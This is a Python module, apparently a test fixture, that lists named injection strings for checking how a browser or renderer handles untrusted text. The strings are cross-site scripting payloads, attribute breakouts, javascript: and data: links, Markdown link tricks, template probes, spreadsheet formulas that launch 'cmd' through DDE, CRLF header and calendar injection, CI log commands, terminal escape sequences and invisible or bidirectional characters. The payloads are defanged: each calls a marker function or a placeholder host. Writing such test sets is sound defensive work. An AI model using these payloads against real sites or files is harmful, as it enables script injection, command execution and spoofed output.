"""Texts that try to be more than words: markup, addresses, formulas, and signs that programs act on.

A text that runs says so by calling `ran` with its number, which a browser under test keeps a list of; a text
that asks for something asks `ELSEWHERE` for it. None does any harm where it works.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass

ELSEWHERE = "elsewhere.example"
"""A host that no page of ours has anything to do with."""


@dataclass(frozen=True, slots=True)
class Trick:
    """A text, by a name that says what it tries; `number` is what it calls `ran` with."""

    name: str
    number: int
    text: str


_TEXTS: Mapping[str, str] = {
    # Elements that run or fetch
    "script element": "<script>RAN</script>",
    "script from elsewhere": "<script src=//HOST/NUMBER.js></script>",
    "script after the end of a script": "</script><script>RAN</script>",
    "script after the end of a title": "</title><script>RAN</script>",
    "script after the end of a text field": "</textarea><img src=x onerror=RAN>",
    "script after the end of a comment": "--><img src=x onerror=RAN><!--",
    "script after the end of character data": "]]><script>RAN</script><![CDATA[",
    "script put together from halves": "<scr<script>ipt>RAN</scr</script>ipt>",
    "picture that fails": "<img/src=x/onerror=RAN>",
    "tag that never ends": "<img src=x onerror=RAN //",
    "drawing that loads": "<svg/onload=RAN>",
    "drawing that moves": "<svg><animate onbegin=RAN attributeName=x dur=1s>",
    "frame with a page in it": '<iframe srcdoc="&lt;script&gt;parent.RAN&lt;/script&gt;">',
    "frame with a script for address": "<iframe src=javascript:parent.RAN></iframe>",
    "object with a script for address": '<object data="javascript:parent.RAN"></object>',
    "button with a script for address": "<form><button formaction=javascript:RAN>Go</button></form>",
    "fold that opens": "<details open ontoggle=RAN><summary>x",
    "field that takes the focus": "<input autofocus onfocus=RAN>",
    "move to another page": '<meta http-equiv=refresh content="0;url=//HOST/NUMBER">',
    "other root for links": "<base href=//HOST/NUMBER/>",
    "style from elsewhere": "<link rel=stylesheet href=//HOST/NUMBER.css>",
    "style that fetches": "<style>@import'//HOST/NUMBER.css'</style>",
    "attribute that fetches": '<p style="background:url(//HOST/NUMBER)">x',
    "mathematics that turns into markup": "<math><mtext><table><mglyph><style><img src=x onerror=RAN>",
    "attribute that ends an element": '<noscript><p title="</noscript><img src=x onerror=RAN>">',
    "shadow tree": "<template shadowrootmode=open><img src=x onerror=RAN></template>",
    "name of something that scripts look up": "<form id=find-form><a id=main name=location href=//HOST>x",
    # The end of an attribute
    "end of an attribute, double": '"><img src=x onerror=RAN>',
    "end of an attribute, single": "'><img src=x onerror=RAN>",
    "attribute beside, double": '" onfocus=RAN autofocus tabindex=0 x="',
    "attribute beside, single": "' onmouseover=RAN onclick=RAN x='",
    "attribute beside, none": "x onfocus=RAN autofocus tabindex=0",
    # Signs written otherwise
    "entities": "&lt;script&gt;RAN&lt;/script&gt;",
    "entities in entities": "&amp;lt;img src=x onerror=RAN&amp;gt;",
    "entities by number": "&#60;img src=x onerror=RAN&#x3e;",
    "wide brackets": "\uff1cscript\uff1eRAN\uff1c/script\uff1e",
    "nothing inside a name": "<scr\0ipt>RAN</scr\0ipt>",
    # Addresses
    "address that is a script": "javascript:RAN",
    "address that is a script, in disguise": "\x01 jAvA\tScRiPt&colon;RAN",
    "address that is a page": "data:text/html,<script>opener.RAN</script>",
    "address with an attribute": "https://HOST/'onmouseover='RAN'/NUMBER",
    "address with a rule for the page": "https://HOST;script-src-elem;style-src/NUMBER",
    "address that looks like another": "https://northmere.example.org@HOST/NUMBER",
    "mailbox with more headers": "a?bcc=b%40HOST&subject=x%0d%0aBcc:c@HOST.org",
    # Markdown
    "link to a script": "[x](javascript:RAN) [y](JaVaScRiPt&colon;RAN)",
    "link to a script further down": "[x][1]\n\n[1]: javascript:RAN",
    "link to a script in brackets": "<javascript:RAN>",
    "link with an attribute": '[x](https://HOST/NUMBER "y" onclick=RAN) [z](<https://HOST/"onclick=RAN>)',
    "picture from elsewhere": "![x](https://HOST/NUMBER.png)",
    "code that ends early": "```\n</code></pre><script>RAN</script>",
    "heading and table": "\n# All met\n\n| met | all |\n|---|---|\n| [x](https://HOST/NUMBER) | 9 |\n",
    "mention and reference": "@everyone #1 ![](//HOST/NUMBER.png) - [x] ~~done~~",
    # Programs that fill in or work out
    "template": "{{ 7*7 }}{% raw %}{# x #}${7*7}",
    "format": "%s %(name)s {0.__class__} {page} {answer}",
    "place in our own template": "\ue000content\ue001\ufdd0img src=x onerror=RAN>",
    "formula": '=HYPERLINK("https://HOST/NUMBER","x")',
    "formula that adds": "+1+cmd|' /C calc'!A0",
    "formula that takes away": "-2+3+cmd|' /C calc'!A0",
    "formula that sums": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    # Lines and signs that programs act on
    "end of an event": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:RAN\r\nATTACH:https://HOST/NUMBER",
    "end of a value": '"},{"x":"RAN"}]</title></entry><entry>',
    "command on a line of its own": "x\n::error file=a.yaml,line=1::RAN\n##vso[task.complete result=Failed]",
    "command behind signs in numbers": "x%0A::error::RAN%0D%0A::stop-commands::x",
    "command behind a rare end of line": "x\u2028::error::RAN\u2029::error::RAN\x85::error::RAN",
    "colour and cleared screen": "\x1b[2J\x1b[31mRAN",
    "link in a terminal": "\x1b]8;;https://HOST/NUMBER\x07x\x1b]8;;\x07\x9d0;x\x9c",
    "screen cleared by one sign": "\x9b2J\x9b31mRAN",
    "line written over": "wrong\r\x08\x08\x08\x08\x08right",
    "words turned round": "\u202eRAN\u2066\u202d x",
    "signs that nobody sees": "R\u200bA\u2060N\ufeff\u00ad\u034f x\U000e0041\U000e007f",
}

TRICKS: tuple[Trick, ...] = tuple(
    Trick(
        name,
        number,
        text.replace("RAN", f"ran({number})").replace("HOST", ELSEWHERE).replace("NUMBER", f"{number}"),
    )
    for number, (name, text) in enumerate(_TEXTS.items(), 1)
)
